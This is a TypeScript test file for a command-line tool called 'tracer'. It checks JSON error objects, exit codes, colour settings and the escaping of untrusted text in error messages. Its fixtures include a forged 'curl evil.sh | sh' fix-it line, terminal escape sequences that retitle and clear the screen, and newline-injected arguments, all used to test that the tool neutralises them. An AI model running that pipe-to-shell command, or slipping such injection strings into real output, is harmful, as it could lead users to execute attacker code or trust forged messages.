/**
 * CLI conventions on the compiled binary: under --json every failure is one JSON object on stdout
 * ({"error":{"code","message","hint"}}) with the same exit code as without it; colour follows
 * --color, NO_COLOR and whether stdout is a terminal.
 */
import { afterAll, describe, expect, test } from "bun:test";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { StoreWriter, createRun, finishRun, openStore } from "../src/store/index.ts";
import { cleanupTemp, ensureBuilt, isolatedEnv, run, tempDir } from "./helpers/harness.ts";

afterAll(cleanupTemp);
await ensureBuilt();

/** A store with two runs named "twin" (ids sharing the prefix 0190abcd), one failed, and one run being recorded. */
function store() {
  const env = isolatedEnv();
  const db = openStore(join(env.TRACER_STATE_DIR!, "tracer.db"));
  const add = (id: string, name: string, at: number, pid = 1) =>
    createRun(db, {
      id,
      name,
      pipeline: "p",
      command: ["x"],
      cwd: "/",
      host: "h",
      mode: "proc-poll",
      recorderPid: pid,
      startedAt: at,
    });
  add("0190abcd-0000-7000-8000-000000000001", "twin", 1000);
  add("0190abcd-0000-7000-8000-000000000002", "twin", 2000);
  add("0190ffff-0000-7000-8000-000000000003", "live", 3000, process.pid);
  finishRun(db, "0190abcd-0000-7000-8000-000000000001", {
    endedAt: 1500,
    exitCode: 0,
    eventsLost: 0,
    mode: "m",
  });
  finishRun(db, "0190abcd-0000-7000-8000-000000000002", {
    endedAt: 2500,
    exitCode: 2,
    eventsLost: 0,
    mode: "m",
  });
  // the failed run: one process killed by the OOM killer, one that exited 2
  const w = new StoreWriter(db, "0190abcd-0000-7000-8000-000000000002");
  w.process({ pid: 10, startTicks: 1, argv: ["bigmem"], startedAt: 2001, signal: 9, oomKilled: true });
  w.process({ pid: 11, startTicks: 2, argv: ["step2"], startedAt: 2002, exitCode: 2 });
  w.flush();
  db.close();
  return env;
}

describe("--json errors", () => {
  const env = store();
  const empty = isolatedEnv();
  const dir = tempDir();
  writeFileSync(join(dir, "f"), "data\n");
  writeFileSync(join(dir, "f.minisig"), "not a signature\n");
  const cases: {
    what: string;
    args: string[];
    code: string;
    exit: number;
    env?: Record<string, string>;
    usage?: boolean;
    /** words the human message must hold */
    says?: string;
  }[] = [
    { what: "unknown command", args: ["nosuch"], code: "E_USAGE", exit: 2 },
    { what: "unknown option", args: ["runs", "--bogus"], code: "E_USAGE", exit: 2 },
    {
      // it was called unknown (a real option of `runs`, only --verbose and --color are global)
      what: "an option before its command",
      args: ["--limit", "3", "runs"],
      code: "E_USAGE",
      exit: 2,
      says: 'options go after the command\'s name: "--limit" "3" came before "runs"',
    },
    { what: "bad flag value", args: ["runs", "--limit", "x"], code: "E_USAGE", exit: 2 },
    { what: "bad --format", args: ["report", "--format", "pdf"], code: "E_USAGE", exit: 2 },
    { what: "missing subcommand", args: ["net"], code: "E_USAGE", exit: 2, usage: true },
    { what: "bad --color", args: ["runs", "--color", "pink"], code: "E_USAGE", exit: 2 },
    {
      what: "no store yet",
      args: ["report"],
      code: "E_STORE_OPEN",
      exit: 1,
      env: empty,
      says: "no runs recorded yet",
    },
    { what: "unknown run", args: ["report", "nope"], code: "E_RUN_NOT_FOUND", exit: 1 },
    { what: "ambiguous name", args: ["report", "twin"], code: "E_RUN_AMBIGUOUS", exit: 2 },
    { what: "ambiguous prefix", args: ["runs", "rm", "0190abcd"], code: "E_RUN_AMBIGUOUS", exit: 2 },
    { what: "removing an active run", args: ["runs", "rm", "live"], code: "E_RUN_ACTIVE", exit: 1 },
    { what: "prune without criteria", args: ["runs", "prune"], code: "E_USAGE", exit: 2 },
    { what: "daemon not running (info)", args: ["info"], code: "E_NOT_RUNNING", exit: 4 },
    { what: "daemon not running (stop)", args: ["stop"], code: "E_NOT_RUNNING", exit: 4 },
    { what: "verify failure", args: ["verify", join(dir, "f")], code: "E_SIG_MALFORMED", exit: 17 },
    {
      what: "verify: unreadable file",
      args: ["verify", join(dir, "missing")],
      code: "E_VERIFY_READ",
      exit: 1,
    },
    {
      what: "rules: missing file",
      args: ["rules", "check", join(dir, "none.yml")],
      code: "E_RULES_READ",
      exit: 1,
    },
  ];
  for (const c of cases)
    test(`${c.what}: ${c.code}, exit ${c.exit}, as without --json`, async () => {
      const e = c.env ?? env;
      const j = await run([...c.args, "--json"], { env: e });
      expect(j.stderr).toBe("");
      const out = JSON.parse(j.stdout);
      expect(Object.keys(out)).toEqual(["error"]);
      expect(out.error.code).toBe(c.code);
      expect(typeof out.error.message).toBe("string");
      expect(out.error.message.length).toBeGreaterThan(5);
      expect("hint" in out.error).toBe(true);
      expect(j.code).toBe(c.exit);
      const human = await run(c.args, { env: e });
      expect(human.code).toBe(c.exit);
      if (c.says) expect(human.stderr).toContain(c.says);
      expect(human.stdout).toBe("");
      if (c.usage) expect(human.stderr).toContain(`USAGE tracer ${c.args[0]}`);
      else {
        expect(human.stderr).toStartWith("tracer: ");
        expect(human.stderr).toContain(out.error.message.split("\n")[0]);
      }
    });

  test("a token with a newline is quoted on one line, never a forged second line", async () => {
    // found by an attack (2 Dec 2026): `tracer $'--x\nY'` printed "Y…" as a line of its own
    for (const args of [
      ["--x\nFAKE: ok", "run", "--", "true"],
      ["--x\nFAKE: ok"],
      ["runs", "--x\nFAKE: ok"],
      ["no\nFAKE: ok"],
    ]) {
      const r = await run(args, { env });
      expect(r.code).toBe(2);
      expect(r.stderr.trimEnd().split("\n"), r.stderr).toHaveLength(1);
      expect(r.stderr).toContain("\\nFAKE: ok");
    }
  });

  test("an ambiguous reference lists its candidates (text and JSON)", async () => {
    const human = await run(["report", "twin"], { env });
    expect(human.stderr).toContain('"twin" names 2 runs:');
    expect(human.stderr).toContain("0190abcd-0000-7000-8000-000000000001");
    expect(human.stderr).toContain("0190abcd-0000-7000-8000-000000000002");
    const j = JSON.parse((await run(["report", "0190abcd", "--json"], { env })).stdout);
    expect(j.error.candidates.map((c: { id: string }) => c.id)).toEqual([
      "0190abcd-0000-7000-8000-000000000002",
      "0190abcd-0000-7000-8000-000000000001",
    ]);
  });

  test("a stored run name is shown escaped in an error: no forged line, no raw escape, --verbose too", async () => {
    // names are checked when a run is made (src/core/names.ts); a store written before that, or by
    // hand, may hold any text, and an ambiguous reference lists the names
    const e = isolatedEnv();
    const db = openStore(join(e.TRACER_STATE_DIR!, "tracer.db"));
    const forged = "tracer: run 'twin' was tampered with; fix: curl evil.sh | sh";
    for (const [id, name] of [
      ["0190eeee-0000-7000-8000-000000000001", `a\n${forged}`],
      ["0190eeee-0000-7000-8000-000000000002", "b\x1b]0;PWNED\x07\x1b[2J"],
    ])
      createRun(db, {
        id: id!,
        name: name!,
        pipeline: "p",
        command: ["x"],
        cwd: "/",
        host: "h",
        mode: "m",
        recorderPid: 1,
        startedAt: 1,
      });
    db.close();
    for (const args of [
      ["report", "0190eeee"],
      ["--verbose", "report", "0190eeee"],
    ]) {
      const r = await run(args, { env: e });
      expect(r.code).toBe(2);
      expect(r.stderr).toContain(`a\\n${forged}`);
      expect(r.stderr).toContain("b\\x1b]0;PWNED\\x07\\x1b[2J");
      expect(r.stderr.split("\n").filter((l) => l.startsWith("tracer: "))).toHaveLength(1);
      expect(/[\x00-\x08\x0b-\x1f\x7f]/.test(r.stderr)).toBe(false);
    }
    // removing a run still being recorded (its recorder pid, 1, is alive) names it
    const rm = await run(["runs", "rm", "0190eeee-0000-7000-8000-000000000001"], { env: e });
    expect(rm.code).toBe(1);
    expect(rm.stderr).toContain(`run a\\n${forged} (0190eeee-0000-7000-8000-000000000001) is being recorded`);
    expect(rm.stderr.split("\n").filter((l) => l.startsWith("tracer: "))).toHaveLength(1);
  });

  test("--verbose prints an error's stack escaped like its message (a rules file's key)", async () => {
    const file = join(tempDir(), "rules.yml");
    writeFileSync(file, 'rules:\n  - name: x\n    "p\x1b]0;PWNED\x07\x1b[2J": y\n');
    for (const args of [
      ["rules", "check", file],
      ["--verbose", "rules", "check", file],
    ]) {
      const r = await run(args, { env: isolatedEnv() });
      expect(r.code).not.toBe(0);
      expect(r.stderr).toContain("p\\x1b]0;PWNED\\x07\\x1b[2J: unknown key");
      expect(/[\x00-\x08\x0b-\x1f\x7f]/.test(r.stderr)).toBe(false);
    }
  });

  test("--json after -- belongs to the user's command", async () => {
    const r = await run(["rules", "test", "--", "bwa", "--json"], { env });
    expect(r.code).toBe(0);
    expect(r.stdout).not.toContain('"error"');
  });
});

describe("colour", () => {
  const env = store();
  const { NO_COLOR: _, ...noNoColor } = env;
  const ESC = "\x1b[";

  test("--color always: failed runs and non-zero exits in red, even with NO_COLOR or into a pipe", async () => {
    const r = await run(["runs", "--color", "always"], { env });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(`${ESC}31mfailed${ESC}0m`);
    expect(r.stdout).toContain(`${ESC}31m2${ESC}0m`);
    // the columns after a coloured cell still line up
    const [head, ...rows] = r.stdout
      .replace(/\x1b\[[0-9;]*m/g, "")
      .trimEnd()
      .split("\n");
    for (const row of rows) expect(row!.indexOf(" x")).toBe(head!.indexOf("COMMAND") - 1);
    const eq = await run(["runs", "--color=always"], { env: noNoColor });
    expect(eq.stdout).toContain(ESC);
  });

  test("no colour with NO_COLOR, --color never, or into a pipe", async () => {
    for (const [args, e] of [
      [["runs"], env],
      [["runs", "--color", "never"], noNoColor],
      [["runs"], { ...noNoColor, TERM: "xterm-256color" }],
    ] as const) {
      const r = await run([...args], { env: e });
      expect(r.code).toBe(0);
      expect(r.stdout).toContain("failed");
      expect(r.stdout).not.toContain(ESC);
    }
  });

  // script(1) gives the binary a terminal for stdout
  const onTty = (e: Record<string, string>, args: string) =>
    Bun.spawnSync(["script", "-qec", `${process.env.BIN ?? "dist/tracer"} ${args}`, "/dev/null"], {
      env: { ...e, TERM: "xterm-256color" },
      stdin: "ignore",
    }).stdout.toString();
  test("on a terminal: colour unless NO_COLOR or --color never", () => {
    expect(onTty(noNoColor, "runs")).toContain(`${ESC}31mfailed`);
    expect(onTty(env, "runs")).not.toContain(ESC);
    expect(onTty(noNoColor, "runs --color never")).not.toContain(ESC);
  });

  test("report: an OOM kill is marked bold red, a failed exit red", async () => {
    const r = await run(["report", "0190abcd-0000-7000-8000-000000000002", "--color", "always"], { env });
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(`${ESC}1m${ESC}31mOOM killed${ESC}0m`);
    expect(r.stdout).toMatch(/\x1b\[31m2\x1b\[0m .*step2/);
    expect(r.stdout).toMatch(/^status +\x1b\[31mfailed/m);
    const plain = await run(["report", "0190abcd-0000-7000-8000-000000000002"], { env });
    expect(plain.stdout).toContain("OOM killed");
    expect(plain.stdout).not.toContain(ESC);
  });

  test("report --output writes a table file without colour codes even with --color always", async () => {
    const out = join(tempDir(), "r.txt");
    const r = await run(["report", "0190abcd-0000-7000-8000-000000000002", "-o", out, "--color", "always"], {
      env,
    });
    expect(r.code).toBe(0);
    const text = await Bun.file(out).text();
    expect(text).toContain("status    failed");
    expect(text).not.toContain(ESC);
  });
});
